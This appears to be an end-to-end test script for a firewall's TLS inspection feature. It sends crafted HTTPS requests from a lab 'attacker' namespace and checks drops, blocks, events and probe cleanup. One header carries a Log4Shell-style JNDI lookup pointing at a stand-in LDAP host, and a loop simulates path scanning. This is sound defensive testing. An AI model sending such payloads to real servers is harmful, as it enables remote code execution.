#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-2.0-only
# `run --tls`: plaintext that servers read from TLS meets the same rules, with the same
# results.
. "$(dirname "$0")/lib.sh"

openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj /CN=lab -keyout "$work/key" -out "$work/cert" 2>/dev/null
mkdir "$work/www"
echo hello >"$work/www/index.html"
chmod 755 "$work" "$work/www"
cat >"$work/nginx.conf" <<END
pid $work/nginx.pid;
error_log $work/nginx.log;
events { }
http {
	access_log $work/access.log;
	server {
		listen 443 ssl;
		listen [::]:443 ssl;
		ssl_certificate $work/cert;
		ssl_certificate_key $work/key;
		root $work/www;
	}
}
END
cat >"$work/own.rules" <<'END'
drop tcp any any -> any $HTTP_PORTS (msg:"a bad word"; http.uri; content:"/forbidden-word"; sid:201;)
reject tcp any any -> any $HTTP_PORTS (msg:"an attack"; http.header; content:"attack-word"; sid:202;)
drop tcp any any -> any $HTTP_PORTS (msg:"in a body"; http.request_body; content:"body-word-of-many-letters"; sid:203;)
END
printf 'mode = enforce\nrules {\nfiles = { "%s" }\n}\n' "$work/own.rules" >"$config"

# ask FROM TO PORT PATH [HEADER [BODY]]: prints how the connection ends (tls_ask.py).
ask() {
	lab_in attacker timeout "$(scaled 20)" python3 "$top/tests/e2e/tls_ask.py" "$slow" "$@"
}
event_of() {
	sw_json "[.events[] | select(.alert.signature_id == $1)] | last | $2" events
}
has_event() {
	[ "$(event_of "$1" .event_type)" != null ]
}
seen() {
	sw_json "[.tls.processes[] | select(.seen) | .process] | unique | join(\" \")" status
}
sees() {
	[[ " $(seen) " == *" $1 "* ]]
}
looked() {
	[ "$(sw_json '.tls.inspected' status)" -gt 0 ]
}
probes() {
	bpftool link list -j 2>/dev/null | jq '[.[] | select(.type == "perf_event")] | length'
}

# serve PORT: a server in Python, on both families.
serve() {
	cat >"$work/serve.py" <<-'END'
		import http.server, socket, ssl, sys
		class Six(http.server.ThreadingHTTPServer):
		    address_family = socket.AF_INET6
		class Pages(http.server.SimpleHTTPRequestHandler):
		    protocol_version = "HTTP/1.1"
		    def do_POST(self):
		        self.rfile.read(int(self.headers["Content-Length"]))
		        self.do_GET()
		    def log_message(self, *args):
		        pass
		server = Six(("::", int(sys.argv[1])), Pages)
		context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
		context.load_cert_chain(sys.argv[2] + "/cert", sys.argv[2] + "/key")
		server.socket = context.wrap_socket(server.socket, server_side=True)
		server.serve_forever()
	END
	( cd "$work/www" && exec nsenter --net="/run/netns/$lab-server" -- python3 "$work/serve.py" "$1" "$work" \
		</dev/null >/dev/null 2>&1 ) &
	eventually 10 lab_in server sh -c "ss -Hltn 'sport = :$1' | grep -q ."
}

lab_in server nginx -c "$work/nginx.conf" 2>/dev/null || not_ok "nginx starts"

# ---- off by default

sw attach net1 net0 -q
daemon_start "the daemon runs without --tls"
lab_source 1
is "an attack in TLS is not seen" "$(ask "$source4" "$target4" 443 /forbidden-word)" open
is "nothing is said of it" "$(sw_json '.tls.running' status)" false
daemon_end

# ---- on

daemon_start "the daemon runs with --tls" --tls
check "it sees nginx" sees nginx
is "status says that it is on" "$(sw_json '.tls.running' status)" true
new_self
is "drop ends the connection" "$(ask "$source4" "$target4" 443 /forbidden-word)" closed
is "percent signs hide nothing" "$(ask "$source4" "$target4" 443 /%66orbidden-word)" closed
is "its source is not blocked, and everyday requests pass" "$(ask "$source4" "$target4" 443 /)" open
check "it is told" eventually 5 has_event 201
is "as read out of TLS" "$(event_of 201 '.in_tls | tostring')" true
is "with the connection's addresses" "$(event_of 201 '.src_ip + " " + .dest_ip + " " + (.dest_port | tostring)')" \
	"$source4 $target4 443"
is "reject ends it as well" "$(ask "$source4" "$target4" 443 / 'X-A: attack-word')" closed
check "and blocks its source" eventually 5 has_event 202
is "for all" "$(ask "$source4" "$target4" 443 /)" refused
is "it is a block" "$(event_of 202 .event_type)" block
new_self
is "over IPv6, too" "$(ask "$source6" "$target6" 443 / 'X-A: attack-word')" closed

is "there" "$(ask "$source6" "$target6" 443 /)" refused
new_self
is "the built-in rules hold" "$(ask "$source4" "$target4" 443 / 'X-A: ${jndi:ldap://192.0.2.9/a}')" closed

# Who speaks for many loses the connection only.
new_self
is "an attack through a proxy is stopped" \
	"$(ask "$source4" "$target4" 443 / $'X-A: attack-word\r\nX-Forwarded-For: 192.0.2.77')" closed
is "the proxy is not blocked" "$(ask "$source4" "$target4" 443 /)" open
is "whom it came from is told" "$(event_of 202 .client.address)" 192.0.2.77

# What services answer counts as well: who searches for what is not there.
new_self
lab_in attacker timeout "$(scaled 30)" python3 - "$source4" "$target4" <<'END'
import http.client, ssl, sys
for i in range(60):
    c = http.client.HTTPSConnection(sys.argv[2], timeout=2, source_address=(sys.argv[1], 0),
                                    context=ssl._create_unverified_context())
    try:
        c.request("GET", f"/{chr(97 + i % 26)}word{chr(97 + i // 26)}")
        c.getresponse().read()
    except OSError:
        break
END
refused() {
	[ "$(sw_json "[.events[] | select(.source == \"$source4/32\" and .event_type == \"block\") | .evidence] | last" events)" = refused ]
}
check "who searches for pages is blocked for what he is refused" eventually 5 refused

# ---- a server that starts later, and one of another kind

serve 8443
new_self
is "a later server's attacks are seen" "$(ask "$source4" "$target4" 8443 /forbidden-word)" closed
is "in bodies as well" "$(ask "$source4" "$target4" 8443 / '' "a=body-word-of-many-letters")" closed
check "it is listed" eventually 15 sees python3
sleep "$(scaled 120)" | lab_in server openssl s_server -quiet -accept 4443 -cert "$work/cert" \
	-key "$work/key" >/dev/null 2>&1 &
check "openssl s_server listens" eventually 10 lab_in server sh -c "ss -Hltn 'sport = :4443' | grep -q ."
new_self
is "its attacks are seen, too" "$(ask "$source4" "$target4" 4443 / 'X-A: attack-word')" closed
is "and blocked" "$(ask "$source4" "$target4" 4443 /)" refused

# What a client of this host reads is no request.
new_self
cat >"$work/www/told.html" <<'END'
GET /forbidden-word HTTP/1.1
END
lab_in server curl -ksS -o /dev/null "https://$site4/told.html"
is "what a client reads is not looked into" \
	"$(sw_json "[.events[] | select(.src_ip == \"$site4\")] | length" events)" 0

check "reads are counted" eventually 15 looked
grab sw status
says "status names the processes" '^tls +.*nginx'
grab sw metrics
says "metrics count" 'scanwall_tls_reads_total\{result="inspected"\} [1-9]' 'scanwall_tls_processes [1-9]'
grab sw doctor
says "doctor knows" '^tls +good'

# ---- detect mode, and the end

new_self
sw mode detect -q
is "detect mode lets it pass" "$(ask "$source4" "$target4" 443 / 'X-A: attack-word')" open
check "and tells" eventually 5 has_event 202
sw mode enforce -q
before=$(probes)
daemon_end
is "the daemon ends" "$code" 0
check "its probes are gone" [ "$(probes)" -lt "$before" ]
new_self
is "nobody looks any more" "$(ask "$source4" "$target4" 443 /forbidden-word)" open

# By the configuration, too.
echo 'tls = on' >>"$config"
daemon_start "the daemon runs with tls = on"
new_self
is "it looks" "$(ask "$source4" "$target4" 443 /forbidden-word)" closed
daemon_end
finish
